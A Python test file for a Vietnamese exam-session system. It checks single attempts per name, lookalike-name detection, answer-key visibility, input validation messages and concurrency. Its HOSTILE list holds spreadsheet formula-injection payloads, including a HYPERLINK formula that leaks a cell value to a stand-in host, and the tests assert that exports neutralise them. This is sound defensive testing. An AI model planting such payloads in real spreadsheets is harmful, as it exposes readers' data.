"""Exam integrity and hostile input: one attempt per name, the key only when allowed, formula-safe
exports, and a Vietnamese message for every malformed value an API caller can send."""

from __future__ import annotations

import csv
import dataclasses
import json

import pytest
from openpyxl import load_workbook

from corpus.errors import QuizError
from index.database import Database
from index.migrations import apply_migrations
from quiz.db import QuizDB
from quiz.results import export_results
from quiz.sessions import MAX_NAME_CHARS, SessionStore, name_key
from tests.quiz.session_items import sample_items

HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào")', "=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def hand_in_all_right(store, code, name, browser="", unit=""):
    items = sample_items()
    attempt = store.join(code, name, unit, browser)
    for q in attempt.questions:
        store.answer(code, attempt.token, q.position, items[q.position].answer)
    return store.finish(code, attempt.token), attempt


def test_formula_names_come_back_as_text_from_xlsx_and_csv(store, tmp_path):
    code, key = store.create(sample_items())
    for i, name in enumerate(HOSTILE):
        attempt = store.join(code, f"{name} {i}" if name.startswith(("\t", "\r")) else name, name[:100], f"b{i}")
        store.answer(code, attempt.token, attempt.questions[0].position, sample_items()[attempt.questions[0].position].answer)
    board = store.dashboard(code, key)
    names = {r.name for r in board.leaderboard}

    book = load_workbook(export_results(board, tmp_path, "xlsx"))
    cells = [c for row in book["Xếp hạng"].iter_rows(min_row=2) for c in row[1:3]]
    assert cells and all(c.data_type == "s" for c in cells)
    values = [c.value for c in cells]
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values), values
    assert {v[1:] for v in values[::2]} == names  # the name itself, behind the apostrophe
    assert '\'=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào")' in values

    with open(export_results(board, tmp_path, "csv"), encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    written = [row[1] for row in rows[1 : 1 + len(HOSTILE)]]
    assert sorted(w[1:] for w in written) == sorted(names)
    assert all(w.startswith("'") for w in written)
    assert "'=1+1" in written and "'-2+3" in written


def test_plain_numbers_and_names_are_left_alone(store, tmp_path):
    code, key = store.create(sample_items())
    store.join(code, "Nguyễn Văn An", "Chi bộ 1")
    book = load_workbook(export_results(store.dashboard(code, key), tmp_path, "xlsx"))
    assert list(book["Xếp hạng"].values)[1][:4] == (1, "Nguyễn Văn An", "Chi bộ 1", 0)


def test_one_attempt_per_name_resumed_only_from_the_same_browser(store):
    code, key = store.create(sample_items())
    result, first = hand_in_all_right(store, code, "Nguyễn Văn An", browser="browser-a")
    # The same name typed differently, from another browser: refused.
    for other in ("nguyen van an", "NGUYỄN  VĂN AN", "Nguyen Van An"):
        with pytest.raises(QuizError, match="đã có người dùng"):
            store.join(code, other, "Chi bộ 9", "browser-b")
    with pytest.raises(QuizError, match="đã có người dùng"):
        store.join(code, "Nguyễn Văn An", "", "")  # no browser id at all (a bare API call)
    # From the same browser: the same attempt, still handed in, no retake.
    again = store.join(code, "nguyễn văn an", "", "browser-a")
    assert again.token == first.token and again.finished and again.answers == result.answers
    board = store.dashboard(code, key)
    assert [r.name for r in board.leaderboard] == ["Nguyễn Văn An"] and board.answers == 4


def test_unfinished_attempt_resumes_with_its_answers(store):
    code, _ = store.create(sample_items())
    first = store.join(code, "Trần Thị Bình", "", "tab-1")
    q = next(q for q in first.questions if q.type != "matching")  # one option is a whole answer
    store.answer(code, first.token, q.position, q.options[0])
    again = store.join(code, "Trần Thị Bình", "", "tab-1")
    assert (again.token, again.answers, again.finished) == (first.token, first.answers | again.answers, False)
    assert len(again.answers) == 1


def test_retake_only_when_the_trainer_allows_it_and_replaces_the_attempt(store, clock):
    code, key = store.create(sample_items(), allow_retake=True)
    hand_in_all_right(store, code, "Lê Văn Cường", browser="b1")
    clock.now += 100
    retake = store.join(code, "Lê Văn Cường", "", "b1")
    assert not retake.finished and retake.answers == {}
    board = store.dashboard(code, key)
    assert len(board.leaderboard) == 1 and board.leaderboard[0].correct == 0 and board.answers == 0
    with pytest.raises(QuizError, match="đã có người dùng"):
        store.join(code, "Lê Văn Cường", "", "b2")


def test_key_shown_at_review_only_when_allowed(store):
    hidden_code, hidden_key = store.create(sample_items())
    _, attempt = hand_in_all_right(store, hidden_code, "An", "b")
    store.close(hidden_code, hidden_key)
    hidden = store.result(hidden_code, attempt.token)
    assert not hidden.show_key and hidden.correct == 4
    assert all(r.answer == r.explanation == r.citation == "" and r.correct is None and r.given for r in hidden.review)
    shown_code, shown_key = store.create(sample_items(), show_key=True)
    _, attempt = hand_in_all_right(store, shown_code, "An", "b")
    store.close(shown_code, shown_key)
    shown = store.result(shown_code, attempt.token)
    assert shown.show_key and all(r.answer and r.explanation and r.citation and r.correct for r in shown.review)


@pytest.mark.parametrize(
    "call, message",
    [
        (lambda s, c, t: s.join(c, 12345, "", ""), "Họ và tên không hợp lệ"),
        (lambda s, c, t: s.join(c, "x" * (MAX_NAME_CHARS + 1), "", ""), "Họ và tên quá dài"),
        (lambda s, c, t: s.join(c, "An", "u" * 100_000, ""), "Đơn vị quá dài"),
        (lambda s, c, t: s.join(c, ["An"], "", ""), "Họ và tên không hợp lệ"),
        (lambda s, c, t: s.join(["X"], "An", "", ""), "Mã phiên thi không hợp lệ"),
        (lambda s, c, t: s.join("Q" * 10_000, "An", "", ""), "Mã phiên thi quá dài"),
        (lambda s, c, t: s.join("ZZZZZZ", "An", "", ""), "Không tìm thấy phiên thi"),
        (lambda s, c, t: s.attempt(c, None), "Không tìm thấy bài làm"),
        (lambda s, c, t: s.attempt(c, {"x": 1}), "Mã bài làm không hợp lệ"),
        (lambda s, c, t: s.answer(c, t, "0", "Đúng"), "Số thứ tự câu hỏi không hợp lệ"),
        (lambda s, c, t: s.answer(c, t, True, "Đúng"), "Số thứ tự câu hỏi không hợp lệ"),
        (lambda s, c, t: s.answer(c, t, -1, "Đúng"), "không có trong phiên"),
        (lambda s, c, t: s.answer(c, t, 1, None), "Lựa chọn không hợp lệ"),
        (lambda s, c, t: s.answer(c, t, 1, 3.5), "Lựa chọn không hợp lệ"),
        (lambda s, c, t: s.answer(c, t, 3, [1, 2]), "Lựa chọn không hợp lệ"),
        (lambda s, c, t: s.answer(c, t, 1, "x" * 1_000_000), "Lựa chọn quá dài"),
        (lambda s, c, t: s.dashboard(c, 42), "Khóa phiên thi không hợp lệ"),
    ],
)
def test_malformed_values_get_a_vietnamese_message(store, call, message):
    code, _ = store.create(sample_items(), shuffle=False)
    token = store.join(code, "An", "", "b").token
    with pytest.raises(QuizError, match=message):
        call(store, code, token)


def test_migration_keeps_old_duplicate_names_and_shows_the_key_in_old_sessions(tmp_path, database_url):
    """A database from before m004: duplicates already there survive the new unique rule."""
    from quiz import db as quiz_db

    path = database_url or tmp_path / "old.sqlite"
    old = Database(path)
    with old.write() as conn:
        apply_migrations(conn, quiz_db.MIGRATIONS[:3])
        conn.execute("INSERT INTO sessions VALUES (1, 'ABCDEF', 'k', 't', 0, 0, 0, NULL)")
        conn.execute("INSERT INTO session_items VALUES (1, 0, :item)", {"item": json.dumps(sample_items()[1].to_json())})
        for pid, name in ((1, "Nguyễn An"), (2, "nguyen an")):
            conn.execute(
                "INSERT INTO participants VALUES (:id, 1, :token, :name, '', 0, NULL, 1)",
                {"id": pid, "token": f"tok{pid}", "name": name},
            )
    old.dispose()
    store = SessionStore(QuizDB(path))
    assert [r.name for r in store.dashboard("ABCDEF", "k").leaderboard] == ["nguyen an", "Nguyễn An"]
    store.close("ABCDEF", "k")
    assert store.result("ABCDEF", "tok1").show_key
    reopened = SessionStore(QuizDB(path))
    with reopened.db.write() as conn:
        conn.execute("UPDATE sessions SET closed_at = NULL")
    with pytest.raises(QuizError, match="đã có người dùng"):
        reopened.join("ABCDEF", "Nguyen An", "", "b")  # the name is taken, by either spelling


@pytest.mark.parametrize("show_key", [False, True])
def test_throwaway_attempts_learn_nothing_while_the_session_is_open(store, show_key):
    """Three attempts under made-up names, each answering differently, then handed in: what they
    get back is the same whichever options they chose, so a fourth attempt learns no key."""
    items = sample_items()
    code, key = store.create(items, show_key=show_key, shuffle=False)
    seen = []
    for i, pick in enumerate((lambda it: it.answer, lambda it: next(o for o in it.options if o != it.answer), lambda it: it.options[-1])):
        attempt = store.join(code, f"Người trễ giờ {i}", "", f"trinh-duyet-{i}")
        for q in attempt.questions:
            item = items[q.position]
            choice = pick(item) if item.type != "matching" else [r for _, r in item.pairs][:: 1 if i == 0 else -1]
            store.answer(code, attempt.token, q.position, choice)
        done = store.finish(code, attempt.token)
        with pytest.raises(QuizError, match="Kết quả sẽ có khi báo cáo viên đóng phiên thi"):
            store.result(code, attempt.token)
        seen.append(dataclasses.replace(done, token="", name="", answers={}))
    assert seen[0] == seen[1] == seen[2]
    # The trainer sees the truth; once closed, each attempt gets its score.
    assert [r.correct for r in store.dashboard(code, key).leaderboard][0] == 4
    store.close(code, key)
    assert store.result(code, store.join(code, "Người trễ giờ 0", "", "trinh-duyet-0").token).correct == 4


def test_one_browser_joins_once_whatever_the_name(store):
    code, _ = store.create(sample_items())
    first = store.join(code, "Người trễ giờ", "", "mot-trinh-duyet")
    with pytest.raises(QuizError, match="Trình duyệt này đã vào phiên thi với tên «Người trễ giờ»"):
        store.join(code, "Người trễ giờ 2", "", "mot-trinh-duyet")
    assert store.join(code, "nguoi tre gio", "", "mot-trinh-duyet").token == first.token


@pytest.mark.parametrize(
    "lookalike",
    [
        "Nguyen\u2060 Van An",  # an invisible word joiner
        "Ngu\u200byen Van An",  # a zero-width space
        "Nguy\u0435n Van An",  # Cyrillic е
        "\uff2e\uff47\uff55\uff59\uff45\uff4e Van An",  # fullwidth letters
        "Nguyen V\u0430n \u0410n",  # Cyrillic а and А
        "Nguyen\u3164Van An",  # a Hangul filler that renders as a space
    ],
)
def test_names_that_look_the_same_are_the_same_name(store, lookalike):
    code, key = store.create(sample_items())
    store.join(code, "Nguyễn Văn An", "", "b1")
    with pytest.raises(QuizError, match="đã có người dùng"):
        store.join(code, lookalike, "", "b2")
    assert [r.name for r in store.dashboard(code, key).leaderboard] == ["Nguyễn Văn An"]
    assert name_key(lookalike) == name_key("Nguyễn Văn An") == "nguyen van an"


def test_answer_change_is_a_trainer_option(store):
    items = sample_items()
    code, _ = store.create(items, shuffle=False, allow_change=False)
    attempt = store.join(code, "An", "", "b")
    assert not attempt.allow_change
    store.answer(code, attempt.token, 1, "Đúng")
    with pytest.raises(QuizError, match="không cho đổi câu trả lời"):
        store.answer(code, attempt.token, 1, "Sai")
    assert store.attempt(code, attempt.token).answers == {1: "Đúng"}
    code, _ = store.create(items, shuffle=False)  # the default: changeable until hand-in
    attempt = store.join(code, "An", "", "b")
    store.answer(code, attempt.token, 1, "Đúng")
    store.answer(code, attempt.token, 1, "Sai")
    assert attempt.allow_change and store.attempt(code, attempt.token).answers == {1: "Sai"}


def test_matching_answers_name_each_item_once(store):
    items = sample_items()
    code, key = store.create(items, shuffle=False)
    token = store.join(code, "An", "", "b").token
    position = next(i for i, it in enumerate(items) if it.type == "matching")
    rights = [r for _, r in items[position].pairs]
    for bad in ([rights[0]], [rights[0]] * len(rights), rights + rights[:1]):
        with pytest.raises(QuizError, match="mỗi mục một lần"):
            store.answer(code, token, position, bad)
    assert store.dashboard(code, key).answers == 0


def test_two_replicas_racing_on_one_session_keep_its_rules(tmp_path, database_url):
    """Two stores on one database (two replicas) hit by the same requests at once: a name is
    taken once, a browser joins once, and two clicks on "next question" open two questions."""
    from concurrent.futures import ThreadPoolExecutor

    target = database_url or tmp_path / "quiz.sqlite"
    stores = [SessionStore(QuizDB(target)), SessionStore(QuizDB(target))]
    code, key = stores[0].create(sample_items(), mode="paced", question_s=60)

    def outcome(call) -> str:  # noqa: ANN001
        try:
            return call()
        except QuizError as error:
            return f"refused: {error}"

    with ThreadPoolExecutor(8) as pool:
        same_name = list(pool.map(lambda i: outcome(lambda: stores[i % 2].join(code, "Nguyễn Văn An", "", f"b{i}").token), range(16)))
        assert len([r for r in same_name if not r.startswith("refused")]) == 1
        assert all("đã có người dùng" in r for r in same_name if r.startswith("refused"))
        same_browser = set(pool.map(lambda i: stores[i % 2].join(code, "Trần Thị Bình", "", "b-binh").token, range(8)))
        assert len(same_browser) == 1
        numbers = list(pool.map(lambda i: outcome(lambda: stores[i % 2].next_question(code, key).number), range(4)))
    assert sorted(numbers) == [1, 2, 3, 4]
    assert stores[1].dashboard(code, key).joined == 2
